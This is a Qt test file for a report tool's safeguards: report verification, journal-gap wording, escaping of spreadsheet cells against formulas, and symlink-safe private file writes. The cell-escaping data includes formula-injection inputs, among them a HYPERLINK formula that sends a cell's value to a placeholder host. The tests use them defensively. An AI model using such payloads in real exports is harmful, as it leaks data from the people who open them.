// What a report says beside its events: sentences of another version of the program, a journal that is broken, and cells that
// no spreadsheet runs.
#include "base/canonicaljson.h"
#include "base/wholefile.h"
#include "journal/journal.h"
#include "report/auditreport.h"
#include "report/reporttext.h"
#include "story.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QTemporaryDir>
#include <QTest>

using namespace bellwether;
using namespace bellwether::support;

class TestReportWords : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void wordsOfAnotherProgramAreNotCalledChecked();
    void anotherWorkspaceIsFound();
    void aBrokenJournalStandsAmongTheGaps();
    void cellsAreNoFormulas_data();
    void cellsAreNoFormulas();
    void filesAreWholePrivateAndNoLinks(); // [S18]
};

namespace {
QByteArray reportOf(const QString &journalBroken = {})
{
    const auto report = makeReport(restoredStory(), 2, 1'790'009'000'000, journalBroken);
    return report ? reportJson(*report) : QByteArray();
}

QByteArray with(const QByteArray &bytes, const QMap<QString, QJsonValue> &keys)
{
    QJsonObject whole = QJsonDocument::fromJson(bytes).object();
    for (auto it = keys.begin(); it != keys.end(); ++it)
        whole.insert(it.key(), it.value());
    return canonicalJson(whole) + '\n';
}
} // namespace

void TestReportWords::wordsOfAnotherProgramAreNotCalledChecked()
{
    const ReportCheck own = verifyReport(reportOf());
    QVERIFY(own.intact && own.wordsChecked);
    const ReportCheck other = verifyReport(with(reportOf(), {{"program", "0.0.9"}, {"summary", "nobody lost data"}, {"gaps", QJsonArray()}}));
    QVERIFY(other.intact); // its events are
    QVERIFY(!other.wordsChecked);
    QCOMPARE(other.program, QString("0.0.9"));
    QCOMPARE(other.headline, own.headline);
    QVERIFY(!other.headline.isEmpty());
}

void TestReportWords::anotherWorkspaceIsFound()
{
    const ReportCheck check = verifyReport(with(reportOf(), {{"program", "0.0.9"}, {"workspace", "somebody-elses"}}));
    QVERIFY(!check.intact);
    QVERIFY(!check.cause.isEmpty());
}

void TestReportWords::aBrokenJournalStandsAmongTheGaps()
{
    JournalCheck journal;
    QCOMPARE(brokenWords(journal), QString());
    journal.intact = false;
    journal.firstBroken = 3;
    journal.cause = "missing";
    QCOMPARE(brokenWords(journal), QString("missing at event 3"));
    const QByteArray bytes = reportOf(brokenWords(journal));
    const QString first = QJsonDocument::fromJson(bytes).object().value("gaps").toArray().first().toString();
    QVERIFY2(first.contains("is broken (missing at event 3)"), qPrintable(first));
    QVERIFY(verifyReport(bytes).intact); // its own events are
    QCOMPARE(verifyReport(with(bytes, {{"journal_broken", "a little"}})).cause, QString("summary"));
    QVERIFY(!reportOf().contains("journal_broken"));
}

void TestReportWords::cellsAreNoFormulas_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("cell");
    const auto row = [](const char *text, const char *cell) { QTest::newRow(text) << QString::fromUtf8(text) << QString::fromUtf8(cell); };
    row("plain; text, 1-2 a=b c@d", "plain; text, 1-2 a=b c@d");
    row("=1+1", "'=1+1");
    row(" =1+1", " '=1+1");
    row("\"=1", "\"'=1");
    row("＝1+1", "'＝1+1");
    row("\t=1", "'\t'=1");
    row("x;=HYPERLINK(\"http://e/\"&A1)", "x;'=HYPERLINK(\"http://e/\"&A1)"); // [corpus 86]
    row("x; \"=1", "x; \"'=1");
    row("x|+1", "x|'+1");
    row("x\t-1", "x\t'-1");
    row("x,@a", "x,'@a");
    row("x\n＋1", "x\n'＋1");
    row("x;;=1", "x;;'=1");
}

void TestReportWords::cellsAreNoFormulas()
{
    QFETCH(QString, text);
    QTEST(guardedCell(text), "cell");
}

void TestReportWords::filesAreWholePrivateAndNoLinks()
{
    const QTemporaryDir folder;
    const QString precious = folder.filePath("precious"), link = folder.filePath("link"), file = folder.filePath("file");
    const auto content = [](const QString &path) {
        QFile f(path);
        return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray("none");
    };
    QVERIFY(writeFile(precious, "precious"));
    QVERIFY(QFile::link(precious, link));
    const Status through = writeFile(link, "x");
    QVERIFY(!through);
    QCOMPARE(through.error().code, ErrorCode::FileUnwritable);
    QCOMPARE(content(precious), QByteArray("precious"));
    QVERIFY(QFile(file).open(QIODevice::WriteOnly));
    QVERIFY(QFile::setPermissions(file, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther));
    QVERIFY(writeFile(file, "whole"));
    QCOMPARE(content(file), QByteArray("whole"));
    QCOMPARE(QFile::permissions(file) & (QFile::ReadGroup | QFile::ReadOther | QFile::WriteGroup | QFile::WriteOther), QFile::Permissions());
    {
        QSaveFile half;
        QVERIFY(openFile(half, file));
        half.write("half");
    }
    QCOMPARE(content(file), QByteArray("whole"));
    QVERIFY(!writeFile(folder.filePath("no/such/file"), "x"));
}

QTEST_GUILESS_MAIN(TestReportWords)
#include "tst_reportwords.moc"
